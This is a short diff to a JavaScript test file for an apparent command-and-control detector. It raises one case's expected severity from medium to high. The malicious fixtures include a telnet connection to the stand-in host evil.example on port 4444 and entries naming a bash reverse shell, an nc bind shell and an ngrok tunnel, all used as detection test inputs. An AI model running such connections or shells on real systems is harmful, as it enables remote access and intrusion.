@@ -4,7 +4,7 @@ import { commandAndControl } from './analyzer.js'
 testAnalyzer(commandAndControl, {
   malicious: [
     ['telnet evil.example 4444', ['raw-connection:medium']],
-    [factsOf('connect host:public evil.example [redirect]'), ['raw-connection:medium']],
+    [factsOf('connect host:public evil.example [redirect]'), ['raw-connection:high']],
     [factsOf('execute process:reverse-shell bash'), ['reverse-shell:critical']],
     [factsOf('execute process:bind-shell nc'), ['bind-shell:critical']],
     [factsOf('execute process:tunnel ngrok'), ['tunnel:high']],
